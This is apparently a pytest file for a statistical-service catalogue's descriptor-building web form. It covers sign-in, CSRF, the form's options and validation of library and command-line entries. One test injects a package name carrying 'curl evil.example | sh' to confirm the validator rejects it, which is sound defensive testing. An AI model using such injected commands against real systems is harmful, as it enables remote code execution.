"""Starting a descriptor from a form: the form offers what the schema and reference models allow, and what it
builds opens in the editor with its problems; nothing is stored until the submitter saves."""

from __future__ import annotations

import html
import json
import re

from sqlalchemy import func, select

from catalogue import reference, resources
from catalogue.auth import accounts
from catalogue.auth.models import User
from catalogue.db import db
from catalogue.services import descriptors, validation
from catalogue.services.models import Service, ServiceVersion

_CSRF = re.compile(r'name="csrf_token"[^>]*value="([^"]+)"')
_EDITOR = re.compile(r'<textarea id="descriptor"[^>]*>(.*?)</textarea>', re.DOTALL)

OPENAPI = """openapi: 3.0.3
info: {title: Imputation, version: "1.0"}
paths:
  /impute:
    post:
      operationId: impute
      responses:
        "200": {description: the imputed data set}
"""


def _signed_in(app):
    with app.app_context(), db.transaction() as session:
        user, _ = accounts.create_user(session, "starter@istat.example", "ISTAT", "submitter", token_days=None)
        session_id = user.get_id()
    client = app.test_client()
    with client.session_transaction() as flask_session:
        flask_session["_user_id"] = session_id
    return client


def _stored(app) -> tuple[int, int]:
    with app.app_context(), db.transaction() as session:
        return (
            session.scalar(select(func.count()).select_from(Service)),
            session.scalar(select(func.count()).select_from(ServiceVersion)),
        )


def test_anonymous_readers_are_asked_to_sign_in(client):
    response = client.get("/submit/start")
    assert response.status_code == 302 and "/auth/sign-in" in response.headers["Location"]


def test_the_form_offers_what_the_validator_accepts(app):
    client = _signed_in(app)
    page = client.get("/submit/start").get_data(as_text=True)
    for code in reference.gsbpm().subprocesses:
        assert f'<option value="{code}">' in page
    for name in ("Unit Data Set", "Data Set"):
        assert f'<option value="{html.escape(name)}">' in page
    for value in ("REST", "SOAP", "batch", "container", "on-premises", "pilot", "production"):
        assert f'<option value="{value}">' in page
    assert 'value="ISTAT"' in page  # the owner is the submitter's organisation


def test_a_complete_form_opens_a_valid_descriptor_in_the_editor(app):
    client = _signed_in(app)
    token = _CSRF.search(client.get("/submit/start").get_data(as_text=True)).group(1)
    form = {
        "csrf_token": token,
        "id": "form-imputation",
        "version": "1.0.0",
        "name": "Form imputation",
        "purpose": "Imputes missing values in business surveys.",
        "business_function": "Imputation",
        "outcomes": "A complete data set\nImputation flags",
        "gsbpm": ["5.4"],
        "inputs": ["Unit Data Set"],
        "outputs": ["Unit Data Set"],
        "protocol": "REST",
        "operations": "impute: imputes one data set",
        "openapi": OPENAPI,
        "owner": "istat",
        "technology": "R, Java",
        "licence": "EUPL-1.2",
        "deployment": ["container"],
        "maturity": "pilot",
        "documentation": "https://example.org/docs",
        "source": "https://example.org/src",
        "contact_name": "Methods unit",
        "contact_email": "methods@istat.example",
    }
    before = _stored(app)
    response = client.post("/submit/start", data=form)
    assert response.status_code == 200
    page = response.get_data(as_text=True)
    assert "every field is filled in correctly" in page
    text = html.unescape(_EDITOR.search(page).group(1))
    report = validation.validate(descriptors.parse(text, "yaml"))
    assert report.valid, [p.to_dict() for p in report.errors]
    content = descriptors.parse(text, "yaml").content
    assert content["definition"]["gsbpm"] == ["5.4"] and content["implementation"]["owner"] == "ISTAT"
    assert content["specification"]["operations"] == [{"id": "impute", "description": "imputes one data set"}]
    assert _stored(app) == before  # nothing is stored until the submitter saves


def test_an_incomplete_form_lists_what_is_missing(app):
    client = _signed_in(app)
    token = _CSRF.search(client.get("/submit/start").get_data(as_text=True)).group(1)
    response = client.post("/submit/start", data={"csrf_token": token, "id": "half-done", "name": "Half done"})
    page = response.get_data(as_text=True)
    assert response.status_code == 200 and re.search(r"\d+ things? to finish below", page)
    assert "/definition" in page and 'class="problem"' in page
    assert client.post("/submit/start", data={"id": "x"}).status_code == 400  # no CSRF token
    with app.app_context(), db.transaction() as session:
        assert session.scalar(select(func.count()).select_from(User)) == 1


def _form(client, **fields):
    token = _CSRF.search(client.get("/submit/start").get_data(as_text=True)).group(1)
    base = {
        "csrf_token": token,
        "version": "1.0.0",
        "purpose": "Anonymises microdata and estimates disclosure risk in R.",
        "business_function": "Disclosure control",
        "outcomes": "Anonymised microdata",
        "gsbpm": ["6.4"],
        "inputs": ["Unit Data Set"],
        "outputs": ["Unit Data Set"],
        "owner": "ISTAT",
        "licence": "GPL-2.0-only",
        "deployment": ["library"],
    }
    response = client.post("/submit/start", data={**base, **fields})
    assert response.status_code == 200
    page = response.get_data(as_text=True)
    text = html.unescape(_EDITOR.search(page).group(1))
    return page, descriptors.parse(text, "yaml")


def test_the_form_offers_every_interface_kind_and_distribution_kind_of_the_schema(app):
    page = _signed_in(app).get("/submit/start").get_data(as_text=True)
    schema = json.loads(resources.SCHEMA_FILE.read_text("utf-8"))
    for kind in schema["properties"]["specification"]["properties"]["interface"]["properties"]:
        assert f'<option value="{kind}">' in page
    for kind in schema["$defs"]["distribution"]["properties"]["kind"]["enum"]:
        assert f'<option value="{kind}">' in page
    assert 'data-when-distribution="cran pypi npm nuget"' in page  # the package field, for the kinds needing one
    for name in ("software_version", "dependencies", "library_package", "cli_program", "distribution_group"):
        assert f'name="{name}"' in page


def test_a_library_with_a_cran_distribution_opens_valid_in_the_editor(app):
    page, descriptor = _form(
        _signed_in(app),
        id="sdcmicro-form",
        name="sdcMicro",
        protocol="library",
        interface_kind="library",
        library_language="R",
        library_package="sdcMicro",
        library_functions="createSdcObj: builds the object holding the data\nlocalSuppression",
        openapi="ignored: because the interface is a library",
        software_version="5.7.8",
        dependencies="R 4 or later",
        distribution_kind="cran",
        distribution_package="sdcMicro",
        distribution_image="left/over:1.0",
    )
    report = validation.validate(descriptor)
    assert report.valid, [p.to_dict() for p in report.errors]
    content = descriptor.content
    assert content["specification"]["interface"] == {
        "library": {
            "language": "R",
            "package": "sdcMicro",
            "functions": [
                {"name": "createSdcObj", "description": "builds the object holding the data"},
                {"name": "localSuppression"},
            ],
        }
    }
    assert content["implementation"]["software_version"] == "5.7.8"
    assert content["implementation"]["distributions"] == [{"kind": "cran", "package": "sdcMicro"}]
    assert content["definition"]["dependencies"] == ["R 4 or later"]
    assert "every field is filled in correctly" in page


def test_a_command_line_program_with_a_maven_artefact(app):
    _page, descriptor = _form(
        _signed_in(app),
        id="jdplus-cli-form",
        name="JDemetra+ command line",
        protocol="command-line",
        interface_kind="command_line",
        cli_program="jwsacruncher",
        distribution_kind="maven",
        distribution_group="eu.europa.ec.joinup.sat",
        distribution_artifact="jdplus-sa-base-api",
        distribution_version="3.5.1",
    )
    report = validation.validate(descriptor)
    assert report.valid, [p.to_dict() for p in report.errors]
    content = descriptor.content
    assert content["specification"]["interface"] == {
        "command_line": {"program": "jwsacruncher", "commands": [{"name": "jwsacruncher"}]}
    }
    assert content["implementation"]["distributions"] == [
        {"kind": "maven", "group": "eu.europa.ec.joinup.sat", "artifact": "jdplus-sa-base-api", "version": "3.5.1"}
    ]


def test_a_hostile_distribution_from_the_form_is_an_error_with_its_pointer(app):
    page, descriptor = _form(
        _signed_in(app),
        id="hostile-form",
        name="Hostile",
        distribution_kind="pypi",
        distribution_package="banff; curl evil.example | sh",
    )
    report = validation.validate(descriptor)
    assert not report.valid
    assert any(p.pointer.startswith("/implementation/distributions/0") for p in report.errors)
    assert "/implementation/distributions/0" in page
